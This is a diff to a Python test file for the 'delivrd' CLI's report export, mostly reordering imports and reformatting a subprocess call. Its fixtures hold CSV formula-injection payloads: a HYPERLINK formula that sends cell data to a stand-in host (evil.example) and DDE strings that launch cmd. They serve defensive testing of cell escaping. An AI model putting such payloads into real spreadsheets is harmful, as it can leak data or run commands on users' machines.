@@ -9,14 +9,13 @@ import os
 import subprocess
 import sys
 
-from tests.factories import body, report
-
 from delivrd.cli.insight import csv_cell
+from tests.factories import body, report
 
 ACK = {"result": 0, "errmsg": "OK"}
 #: field → text that a spreadsheet would run (or, for `ext`, text that already starts with the quote)
 PUSHED = {
-    "sid": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "sid": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "errmsg": "@SUM(1+1)*cmd|' /C calc'!A0",
     "description": "+cmd|' /C calc'!A0",
     "user_receive_time": "-2+3",
@@ -26,8 +25,12 @@ PUSHED = {
 
 def export(app, *args: str) -> str:
     """What `delivrd export reports` wrote, line ends untranslated (a CR inside a cell stays one)."""
-    result = subprocess.run([sys.executable, "-m", "delivrd", "export", "reports", *args, *app.database_args()],
-                            capture_output=True, env=os.environ, timeout=60)  # fmt: skip
+    result = subprocess.run(
+        [sys.executable, "-m", "delivrd", "export", "reports", *args, *app.database_args()],
+        capture_output=True,
+        env=os.environ,
+        timeout=60,
+    )
     assert result.returncode == 0, result.stderr
     return result.stdout.decode()
 
